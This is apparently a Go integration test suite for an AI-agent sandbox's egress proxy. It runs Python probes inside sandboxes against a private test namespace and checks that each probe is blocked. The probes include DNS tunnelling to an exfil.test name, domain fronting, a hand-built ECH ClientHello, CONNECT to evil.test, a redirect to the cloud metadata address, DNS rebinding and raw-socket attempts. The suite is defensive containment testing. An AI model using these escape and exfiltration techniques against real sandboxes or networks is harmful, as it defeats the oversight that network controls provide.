package integration

import (
	"context"
	"crypto/tls"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vishvananda/netlink"
	vnetns "github.com/vishvananda/netns"

	"github.com/entersandbox/agentbox/api"
	"github.com/entersandbox/agentbox/internal/egress"
	"github.com/entersandbox/agentbox/internal/egress/egresstest"
	"github.com/entersandbox/agentbox/internal/heavy"
	"github.com/entersandbox/agentbox/internal/netpolicy"
	"github.com/entersandbox/agentbox/internal/tier"
)

// The escape suite runs real sandboxes (runsc, a pool refilled from the golden checkpoint) behind the
// real netns rules and the real egress proxy, against an "internet" that is a network namespace of
// the test's own: nothing leaves loopback or namespaces the test creates.

// upstreamAddr is the test internet's one host, in its own namespace behind the veth tup0.
var (
	upstreamAddr = netip.MustParseAddr("10.252.0.2")
	upstreamGW   = netip.MustParseAddr("10.252.0.1")
	escapeRange  = netip.MustParsePrefix("10.214.0.0/20")
)

// internet is the namespace with the upstream: HTTPS on :443 (certificate for api.test and
// other.test from a private CA), plain HTTP on :80, a resolver on UDP :53 and a banner on TCP :9,
// each counting what reached it.
type internet struct {
	caFile            string
	https, plain, dns atomic.Int64
	banner            atomic.Int64
	mu                sync.Mutex
	hosts             []string // guarded by mu: the Host of every HTTP request that arrived
}

func (in *internet) sawHost(h string) bool {
	in.mu.Lock()
	defer in.mu.Unlock()
	for _, x := range in.hosts {
		if x == h {
			return true
		}
	}
	return false
}

// newInternet makes the namespace and its servers; they live until the test binary's end (afterAll),
// shared by every test that uses the rig.
func newInternet(t *testing.T) *internet {
	t.Helper()
	in := &internet{}
	cleanup := func(f func()) { afterAll = append(afterAll, f) }
	runtime.LockOSThread()
	orig, err := vnetns.Get()
	if err != nil {
		t.Fatal(err)
	}
	ns, err := vnetns.New() // this thread is in it now
	if err == nil {
		err = vnetns.Set(orig)
	}
	if err != nil {
		t.Fatalf("upstream namespace: %v", err) // the locked thread dies with the test goroutine
	}
	runtime.UnlockOSThread()
	orig.Close()
	cleanup(func() { ns.Close() })
	netlink.LinkDel(&netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: "tup0"}}) // an earlier run's
	if err := netlink.LinkAdd(&netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: "tup0"}, PeerName: "eth0", PeerNamespace: netlink.NsFd(int(ns))}); err != nil {
		t.Fatal(err)
	}
	host, err := netlink.LinkByName("tup0")
	if err != nil {
		t.Fatal(err)
	}
	cleanup(func() { netlink.LinkDel(host) })
	mask := net.CIDRMask(30, 32)
	if err := netlink.AddrAdd(host, &netlink.Addr{IPNet: &net.IPNet{IP: upstreamGW.AsSlice(), Mask: mask}}); err != nil {
		t.Fatal(err)
	}
	if err := netlink.LinkSetUp(host); err != nil {
		t.Fatal(err)
	}
	h, err := netlink.NewHandleAt(ns)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	eth, err := h.LinkByName("eth0")
	if err != nil {
		t.Fatal(err)
	}
	lo, _ := h.LinkByName("lo")
	if err := h.AddrAdd(eth, &netlink.Addr{IPNet: &net.IPNet{IP: upstreamAddr.AsSlice(), Mask: mask}}); err != nil {
		t.Fatal(err)
	}
	for _, l := range []netlink.Link{eth, lo} {
		if err := h.LinkSetUp(l); err != nil {
			t.Fatal(err)
		}
	}

	// Sockets made on a thread inside the namespace stay in it.
	var tl443, tl80, tl9 net.Listener
	var ul53 net.PacketConn
	errc := make(chan error, 1)
	go func() {
		runtime.LockOSThread()
		if err := vnetns.Set(ns); err != nil {
			errc <- err
			return // the thread stays locked and ends with this goroutine
		}
		var err error
		a := upstreamAddr.String()
		if tl443, err = net.Listen("tcp4", a+":443"); err == nil {
			if tl80, err = net.Listen("tcp4", a+":80"); err == nil {
				if tl9, err = net.Listen("tcp4", a+":9"); err == nil {
					ul53, err = net.ListenPacket("udp4", a+":53")
				}
			}
		}
		errc <- err // the thread is never unlocked: it ends in the namespace with this goroutine
	}()
	if err := <-errc; err != nil {
		t.Fatal(err)
	}
	ca := egresstest.NewCA(t)
	leaf := ca.Leaf(t, "api.test", "other.test")
	dir, err := os.MkdirTemp("", "agentbox-escape-")
	if err != nil {
		t.Fatal(err)
	}
	cleanup(func() { os.RemoveAll(dir) })
	in.caFile = filepath.Join(dir, "upstream-ca.pem")
	if err := os.WriteFile(in.caFile, ca.PEM, 0o644); err != nil {
		t.Fatal(err)
	}
	handler := func(counter *atomic.Int64) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			counter.Add(1)
			in.mu.Lock()
			in.hosts = append(in.hosts, r.Host)
			in.mu.Unlock()
			if to := r.URL.Query().Get("to"); r.URL.Path == "/redirect" && to != "" {
				http.Redirect(w, r, to, http.StatusFound)
				return
			}
			fmt.Fprintf(w, "hello from %s", r.Host)
		})
	}
	s443 := &http.Server{Handler: handler(&in.https), TLSConfig: &tls.Config{Certificates: []tls.Certificate{leaf}}}
	s80 := &http.Server{Handler: handler(&in.plain)}
	go s443.ServeTLS(tl443, "", "")
	go s80.Serve(tl80)
	go func() {
		for {
			c, err := tl9.Accept()
			if err != nil {
				return
			}
			in.banner.Add(1)
			c.Write([]byte("UPSTREAM-BANNER\n"))
			c.Close()
		}
	}()
	go func() {
		buf := make([]byte, 512)
		for {
			if _, _, err := ul53.ReadFrom(buf); err != nil {
				return
			}
			in.dns.Add(1)
		}
	}()
	cleanup(func() { s443.Close(); s80.Close(); tl9.Close(); ul53.Close() })
	return in
}

// allowList is the test's policy for one sandbox: the hosts it may reach (TLS inspected). The data
// plane only sees Decisions, so a list the test can change between two cells stands in for a
// compiled netpolicy.Policy and its Guard.Swap, keeping the suite about containment alone (compiled
// policies are end to end in internal/cli's TestRunGovernedNetwork).
type allowList struct {
	mu    sync.Mutex
	hosts map[string]bool // guarded by mu
}

func (l *allowList) set(hosts ...string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.hosts = map[string]bool{}
	for _, h := range hosts {
		l.hosts[h] = true
	}
}

// planeGuard is what the proxy asks: decisions from the allowList, events into the request's Guard.
type planeGuard struct {
	g     *netpolicy.Guard
	allow *allowList
}

func (p planeGuard) Decide(r netpolicy.Request) netpolicy.Decision {
	h := strings.TrimSuffix(strings.ToLower(r.Host), ".")
	p.allow.mu.Lock()
	ok := p.allow.hosts[h]
	p.allow.mu.Unlock()
	if !ok {
		return netpolicy.Decision{Verdict: api.VerdictDenied, Rule: "test:not-allowed", Reason: h + " is not in the test's allow list"}
	}
	return netpolicy.Decision{Allow: true, Host: h, Verdict: api.VerdictAllowed, Rule: "allow:" + h, Source: "test", Inspect: true}
}

func (p planeGuard) Record(e api.NetworkEvent)            { p.g.Record(e) }
func (p planeGuard) Secrets(host string) []api.SecretRule { return nil }
func (p planeGuard) SecretValues() []string               { return nil }
func (p planeGuard) DLP() (mode string, responses bool)   { return api.DLPOff, false }
func (p planeGuard) RangeAllowed(netip.Addr) bool         { return false } // the proxy's AllowCIDRs only

// proxyPlane adapts the egress proxy to heavy.Network, as the server does, with allow lists per Guard.
type proxyPlane struct {
	*egress.Proxy
	mu    sync.Mutex
	lists map[*netpolicy.Guard]*allowList // guarded by mu
}

func (p *proxyPlane) Attach(guest netip.Addr, g *netpolicy.Guard) func() {
	return p.Proxy.Attach(guest, planeGuard{g: g, allow: p.list(g)})
}

func (p *proxyPlane) list(g *netpolicy.Guard) *allowList {
	p.mu.Lock()
	defer p.mu.Unlock()
	l := p.lists[g]
	if l == nil {
		l = &allowList{}
		p.lists[g] = l
	}
	return l
}

var (
	escOnce  sync.Once
	escEng   *heavy.Engine
	escPlane *proxyPlane
	escNet   *internet
	escErr   error
)

// escapeRig is the shared engine (pool of one) behind the real proxy, and the test internet.
func escapeRig(t *testing.T) (*heavy.Engine, *proxyPlane, *internet) {
	t.Helper()
	escOnce.Do(func() {
		escNet = newInternet(t)
		p, err := egress.New(egress.Config{ListenTCP: "0.0.0.0:0", ListenDNS: "0.0.0.0:0", CADir: filepath.Join(os.TempDir(), "agentbox-escape-ca"),
			Resolve: []string{"api.test=" + upstreamAddr.String(), "other.test=" + upstreamAddr.String(), "plain.test=" + upstreamAddr.String(),
				"meta.test=169.254.169.254", "rebind.test=10.1.2.3"},
			AllowCIDRs: []netip.Prefix{netip.PrefixFrom(upstreamAddr, 32)}, UpstreamCAs: []string{escNet.caFile}, SandboxRange: escapeRange})
		if err != nil {
			escErr = err
			return
		}
		if escErr = p.Start(context.Background()); escErr != nil {
			return
		}
		escPlane = &proxyPlane{Proxy: p, lists: map[*netpolicy.Guard]*allowList{}}
		escEng, escErr = heavy.New(context.Background(), heavy.Config{PoolSize: 1, DiskMB: 64, Network: escPlane, NetworkRange: escapeRange,
			Logger: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))})
		afterAll = append(afterAll, func() {
			if escEng != nil {
				escEng.Close(context.Background())
			}
			p.Close()
		})
	})
	if escErr != nil {
		t.Fatalf("escape suite rig: %v", escErr)
	}
	return escEng, escPlane, escNet
}

// escapePrelude gives the suite's programs a few probes that print one word of outcome each.
const escapePrelude = `
import socket, ssl, struct, os, urllib.request, urllib.error, http.client
def tcp(host, port, send=b"", timeout=4):
    try:
        c = socket.create_connection((host, port), timeout=timeout)
        if send:
            c.sendall(send)
        data = c.recv(200)
        return "data " + data.decode(errors="replace").split("\r\n")[0][:60] if data else "closed"
    except Exception as e:
        return "error " + type(e).__name__
def get(url, timeout=10, **kw):
    try:
        with urllib.request.urlopen(url, timeout=timeout, **kw) as r:
            return "%d %s" % (r.status, r.read().decode()[:80])
    except urllib.error.HTTPError as e:
        return "%d %s" % (e.code, e.headers.get("X-Agentbox-Rule", ""))
    except Exception as e:
        return "error " + type(e).__name__
def dnsq(name, server, port=53):
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", 1, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(3)
    try:
        u.sendto(q, (server, port))
        r = u.recv(512)
        return "rcode %d answers %d" % (r[3] & 15, struct.unpack("!H", r[6:8])[0])
    except Exception as e:
        return "error " + type(e).__name__
def pinned(path, dst="198.51.100.77"):
    try:
        ctx = ssl.create_default_context()
        s = ctx.wrap_socket(socket.create_connection((dst, 443), timeout=10), server_hostname="api.test")
        s.sendall(("GET %s HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n" % path).encode())
        return s.recv(300).decode().split("\r\n")[0]
    except Exception as e:
        return "error " + type(e).__name__
def resolve(name):
    try:
        return "addr " + socket.gethostbyname(name)
    except Exception as e:
        return "error " + type(e).__name__
`

// TestEscapeSuite: what a sandbox behind the governed network can and cannot reach.
func TestEscapeSuite(t *testing.T) {
	e, plane, in := escapeRig(t)
	hostBanner := hostListener(t, "0.0.0.0:0")
	loopBanner := hostListener(t, "127.0.0.1:0")
	udpSink, err := net.ListenUDP("udp4", &net.UDPAddr{})
	if err != nil {
		t.Fatal(err)
	}
	defer udpSink.Close()
	var udpGot atomic.Int64
	go func() {
		buf := make([]byte, 100)
		for {
			if _, _, err := udpSink.ReadFrom(buf); err != nil {
				return
			}
			udpGot.Add(1)
		}
	}()
	hostAddrs := hostIPv4s(t)
	gw := escapeRange.Addr().Next() // a sandbox's gateway: the host itself
	up := upstreamAddr.String()

	type check func(t *testing.T, out string, events []api.NetworkEvent)
	want := func(lines ...string) check {
		return func(t *testing.T, out string, _ []api.NetworkEvent) {
			for _, l := range lines {
				if !strings.Contains(out, l+"\n") {
					t.Errorf("want a line %q in:\n%s", l, out)
				}
			}
		}
	}
	event := func(rule string) check {
		return func(t *testing.T, _ string, events []api.NetworkEvent) {
			for _, ev := range events {
				if ev.Rule == rule && ev.Verdict == api.VerdictDenied {
					return
				}
			}
			t.Errorf("no denied event with rule %q in %+v", rule, events)
		}
	}
	cases := []struct {
		name   string
		allow  []string
		code   string
		checks []check
		// after runs host-side checks once the program is done.
		after func(t *testing.T)
		// noGuard runs the program without a Guard in the context: nothing is attached.
		noGuard bool
	}{
		{name: "allowed HTTPS GET with the installation CA (urllib), from a restored pool sandbox", allow: []string{"api.test"},
			code:   `print("get", get("https://api.test/ok"))`,
			checks: []check{want("get 200 hello from api.test")}},
		{name: "requests-style client trusts the bundle through REQUESTS_CA_BUNDLE", allow: []string{"api.test"},
			code: `from pip._vendor import requests
print("env", all(os.environ.get(k) == "/etc/ssl/certs/ca-certificates.crt" for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT", "GIT_SSL_CAINFO", "NODE_EXTRA_CA_CERTS")))
r = requests.get("https://api.test/requests", timeout=10)
print("requests", r.status_code, r.text)`,
			checks: []check{want("env True", "requests 200 hello from api.test")}},
		{name: "raw TCP to the host's addresses lands on the proxy, never a host service", allow: []string{"api.test"},
			code: fmt.Sprintf("for a in %s:\n    print(a, tcp(a, %d))", pyList(append(hostAddrs, gw.String())), hostBanner.port),
			checks: []check{func(t *testing.T, out string, _ []api.NetworkEvent) {
				if strings.Contains(out, "HOST-BANNER") {
					t.Errorf("a host service answered:\n%s", out)
				}
			}},
			after: func(t *testing.T) {
				if n := hostBanner.n.Load(); n != 0 {
					t.Errorf("the host listener accepted %d connections", n)
				}
			}},
		{name: "127.0.0.1 is the sandbox's own loopback", allow: []string{"api.test"},
			code:   fmt.Sprintf("print(\"lo\", tcp(\"127.0.0.1\", %d))", loopBanner.port),
			checks: []check{want("lo error ConnectionRefusedError")},
			after: func(t *testing.T) {
				if n := loopBanner.n.Load(); n != 0 {
					t.Errorf("the host's loopback listener accepted %d connections", n)
				}
			}},
		{name: "UDP other than DNS is dropped", allow: []string{"api.test"},
			code: fmt.Sprintf(`u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for a in (%q, %q, "8.8.8.8"):
    u.sendto(b"x", (a, %d))
u.sendto(b"x", (%q, 123))
print("sent")`, gw, up, udpSink.LocalAddr().(*net.UDPAddr).Port, up),
			checks: []check{want("sent")},
			after: func(t *testing.T) {
				time.Sleep(300 * time.Millisecond)
				if n := udpGot.Load(); n != 0 {
					t.Errorf("%d datagrams reached the host", n)
				}
			}},
		{name: "DNS to another resolver is answered by the stub, never sent on", allow: []string{"api.test"},
			code:   fmt.Sprintf("print(\"other\", dnsq(\"api.test\", %q))\nprint(\"google\", dnsq(\"api.test\", \"8.8.8.8\"))", up),
			checks: []check{want("other rcode 0 answers 1", "google rcode 0 answers 1")},
			after: func(t *testing.T) {
				if n := in.dns.Load(); n != 0 {
					t.Errorf("the upstream resolver got %d questions", n)
				}
			}},
		{name: "DNS tunnelling of unknown names gets NXDOMAIN and goes nowhere", allow: []string{"api.test"},
			code: `print("tunnel", resolve("c2VjcmV0IGRhdGE.exfil.test"))
print("txt", dnsq("bW9yZSBkYXRh.exfil.test", "192.0.2.53"))`,
			checks: []check{want("tunnel error gaierror", "txt rcode 3 answers 0")},
			after: func(t *testing.T) {
				if n := in.dns.Load(); n != 0 {
					t.Errorf("the upstream resolver got %d questions", n)
				}
			}},
		{name: "IP literals are refused", allow: []string{"api.test"},
			code: fmt.Sprintf("print(\"https\", get(\"https://%s/ip\"))\nprint(\"http\", get(\"http://%s/ip\"))", up, up),
			checks: []check{func(t *testing.T, out string, _ []api.NetworkEvent) {
				if strings.Contains(out, "hello") {
					t.Errorf("an IP literal reached the upstream:\n%s", out)
				}
			}, want("https error URLError", "http 403 test:not-allowed")},
			after: func(t *testing.T) {
				if in.sawHost(up) {
					t.Error("a request naming the IP literal reached the upstream")
				}
			}},
		{name: "IPv6 does not exist", allow: []string{"api.test"},
			// An IPv4-mapped address is IPv4 on the wire: it lands on the proxy like any other.
			code: `for a in ("::1", "2001:db8::1", "fe80::1%eth0", "::ffff:` + up + `"):
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect((a, 80))
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        print(a, s.recv(100).decode().split("\r\n")[0])
    except Exception as e:
        print(a, "error")`,
			checks: []check{want("::1 error", "2001:db8::1 error", "fe80::1%eth0 error", "::ffff:"+up+" HTTP/1.1 403 Forbidden")},
			after: func(t *testing.T) {
				if in.sawHost("evil.test") {
					t.Error("an IPv6 connection reached the upstream")
				}
			}},
		{name: "domain fronting (SNI allowed, Host not) is refused", allow: []string{"api.test"},
			code: `c = http.client.HTTPSConnection("api.test", timeout=10, context=ssl.create_default_context())
c.request("GET", "/front", headers={"Host": "other.test"})
r = c.getresponse()
print("front", r.status, r.getheader("X-Agentbox-Rule"))`,
			checks: []check{want("front 403 tls:host-mismatch")},
			after: func(t *testing.T) {
				if in.sawHost("other.test") {
					t.Error("the fronted Host reached the upstream")
				}
			}},
		{name: "ECH is refused", allow: []string{"api.test"},
			code: `name = b"api.test"
sni = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
# A well-formed outer ECH extension (RFC 9849): type outer, HKDF-SHA256, AES-128-GCM, config 7, enc, payload.
ech = b"\x00" + struct.pack("!HHB", 1, 1, 7) + struct.pack("!H", 32) + os.urandom(32) + struct.pack("!H", 64) + os.urandom(64)
exts = sni + struct.pack("!HH", 0xfe0d, len(ech)) + ech
body = b"\x03\x03" + os.urandom(32) + b"\x00" + struct.pack("!H", 2) + b"\x13\x01" + b"\x01\x00" + struct.pack("!H", len(exts)) + exts
hs = b"\x01" + len(body).to_bytes(3, "big") + body
print("ech", tcp("api.test", 443, b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs))`,
			checks: []check{func(t *testing.T, out string, _ []api.NetworkEvent) {
				if !strings.Contains(out, "ech closed") && !strings.Contains(out, "ech error") {
					t.Errorf("an ECH ClientHello was answered:\n%s", out)
				}
			}, event("tls:ech")}},
		{name: "CONNECT to a disallowed host is refused", allow: []string{"api.test"},
			code:   `print("connect", tcp("api.test", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"))`,
			checks: []check{want("connect data HTTP/1.1 403 Forbidden")}},
		{name: "a redirect to a metadata address is refused at the second hop", allow: []string{"api.test", "meta.test"},
			// The client follows; the name of the second hop does not even resolve (the stub refuses it
			// for what the proxy would dial), and the proxy would refuse the connection the same way.
			code:   `print("redirect", get("https://api.test/redirect?to=http://meta.test/latest/meta-data/"))`,
			checks: []check{want("redirect error URLError"), event("ssrf:metadata")}},
		{name: "DNS rebinding: the sandbox's destination is ignored, a name resolving privately is refused", allow: []string{"api.test", "rebind.test"},
			code: `print("rebind", get("http://rebind.test/"))
print("elsewhere", tcp("203.0.113.9", 80, b"GET /x HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n"))
print("pinned", pinned("/dst"))`,
			checks: []check{func(t *testing.T, out string, _ []api.NetworkEvent) {
				if strings.Contains(out, "rebind 200") || strings.Contains(out, "elsewhere data HTTP/1.1 200") {
					t.Errorf("a name resolving to a private address was reached:\n%s", out)
				}
			}, want("elsewhere data HTTP/1.1 403 Forbidden", "pinned HTTP/1.1 200 OK")}},
		{name: "a sandbox with no policy attached is refused at once", noGuard: true,
			code: fmt.Sprintf(`print("dns", resolve("api.test"))
print("tcp", tcp(%q, 443))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.connect(("192.0.2.53", 53))
try:
    u.send(b"q")
    u.recv(10)
    print("udp answered")
except OSError as e:
    print("udp error", type(e).__name__)`, up),
			checks: []check{want("dns error gaierror", "tcp error ConnectionRefusedError", "udp error ConnectionRefusedError")}},
		{name: "a raw-socket client gets no raw socket", allow: []string{"api.test"},
			code: `for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 3)):
    try:
        socket.socket(fam, typ, proto)
        print("raw", proto, "opened")
    except OSError as e:
        print("raw", proto, "refused")`,
			checks: []check{want("raw 6 refused", "raw 1 refused", "raw 3 refused")}},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			hits, restored := e.Stats.PoolHits.Load(), e.Stats.Restored.Load()
			if i == 0 {
				deadline := time.Now().Add(3 * time.Minute)
				for e.PoolReady() == 0 {
					if time.Now().After(deadline) {
						t.Fatal("the pool did not fill")
					}
					time.Sleep(50 * time.Millisecond)
				}
			}
			g := netpolicy.NewGuard(nil, nil)
			plane.list(g).set(tc.allow...)
			ctx := netpolicy.WithGuard(context.Background(), g)
			if tc.noGuard {
				ctx = context.Background()
			}
			res, err := e.Run(ctx, api.RunRequest{Code: escapePrelude + tc.code, Limits: api.Limits{TimeoutMS: 60000}}, tier.Stream{})
			if err != nil {
				t.Fatal(err)
			}
			if res.Error != nil {
				t.Fatalf("%+v\n%s\n%s", res.Error, res.Stdout, res.Stderr)
			}
			events := g.Drain()
			for _, c := range tc.checks {
				c(t, res.Stdout, events)
			}
			if tc.after != nil {
				tc.after(t)
			}
			if i == 0 && (e.Stats.PoolHits.Load() == hits || e.Stats.Restored.Load() == restored && e.Stats.Restored.Load() == 0) {
				t.Errorf("not a restored pool sandbox: %d pool hits, %d restores", e.Stats.PoolHits.Load(), e.Stats.Restored.Load())
			}
			if t.Failed() {
				t.Logf("stdout:\n%s\nevents: %+v", res.Stdout, events)
			}
		})
	}
}

// TestEscapePolicyChange: in a session, a change of policy takes effect for the next connection.
func TestEscapePolicyChange(t *testing.T) {
	e, plane, _ := escapeRig(t)
	g := netpolicy.NewGuard(nil, nil)
	list := plane.list(g)
	list.set("api.test")
	ctx := netpolicy.WithGuard(context.Background(), g)
	s, err := e.NewSession(ctx, api.Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close(ctx)
	steps := []struct {
		name  string
		allow []string
		want  string
	}{
		{name: "allowed before", allow: []string{"api.test"}, want: "get 200 hello from api.test\npinned HTTP/1.1 200 OK"},
		// The name no longer resolves, and a connection to an address the sandbox kept is refused.
		{name: "denied after the change", allow: []string{"other.test"}, want: "get error URLError\npinned error"},
		{name: "allowed again", allow: []string{"api.test"}, want: "get 200 hello from api.test\npinned HTTP/1.1 200 OK"},
	}
	if _, err := s.Run(ctx, escapePrelude, tier.Stream{}); err != nil {
		t.Fatal(err)
	}
	for _, st := range steps {
		t.Run(st.name, func(t *testing.T) {
			list.set(st.allow...)
			res, err := s.Run(ctx, `print("get", get("https://api.test/swap"))
print("pinned", pinned("/swap"))`, tier.Stream{})
			if err != nil || res.Error != nil {
				t.Fatalf("%v %+v", err, res)
			}
			if !strings.HasPrefix(res.Stdout, st.want) {
				t.Errorf("got %q, want %q", res.Stdout, st.want)
			}
		})
	}
}

// banner is a host listener that must never hear from a sandbox.
type banner struct {
	port int
	n    atomic.Int64
}

func hostListener(t *testing.T, addr string) *banner {
	t.Helper()
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	b := &banner{port: l.Addr().(*net.TCPAddr).Port}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			b.n.Add(1)
			c.Write([]byte("HOST-BANNER\n"))
			c.Close()
		}
	}()
	return b
}

// hostIPv4s are the host's own IPv4 addresses but loopback.
func hostIPv4s(t *testing.T) []string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			out = append(out, n.IP.String())
		}
	}
	return out
}

func pyList(xs []string) string {
	q := make([]string, len(xs))
	for i, x := range xs {
		q[i] = fmt.Sprintf("%q", x)
	}
	return "(" + strings.Join(q, ", ") + ",)"
}
